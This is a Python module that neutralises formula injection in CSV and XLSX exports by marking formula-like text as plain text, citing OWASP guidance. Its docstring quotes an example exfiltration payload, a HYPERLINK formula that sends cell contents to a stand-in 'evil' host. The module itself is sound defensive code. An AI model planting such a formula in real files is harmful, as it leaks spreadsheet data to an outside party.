"""Cells of exported files (CSV, XLSX) that a spreadsheet cannot run: formula injection neutralised.

A citizen's title or a unit's name such as ``=HYPERLINK("http://evil/?"&A1,"click")`` would run as a
formula when the export is opened. Per OWASP's CSV-injection guidance, text that starts with
``= + - @``, a tab or a carriage return is written as text: in CSV behind a leading apostrophe; in XLSX
as a string cell (never a formula) marked quote-prefixed, so editing the cell keeps it text too.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.workbook import Workbook
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def csv_row(values: Iterable[Any]) -> list[Any]:
    """The row with formula-like text behind an apostrophe."""
    return [f"'{v}" if formula_like(v) else v for v in values]


def _as_text(cell: Any) -> None:
    cell.data_type = "s"
    cell.quotePrefix = True


def xlsx_row(sheet: WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
    """The row for a write-only sheet, formula-like text as quote-prefixed string cells."""
    row: list[Any] = []
    for value in values:
        if formula_like(value):
            cell = WriteOnlyCell(sheet, value=value)
            _as_text(cell)
            row.append(cell)
        else:
            row.append(value)
    return row


def text_only(book: Workbook) -> None:
    """Every formula-like cell of a (normal) workbook made text: nothing exported here is a formula."""
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                if cell.data_type == "f" or formula_like(cell.value):
                    _as_text(cell)
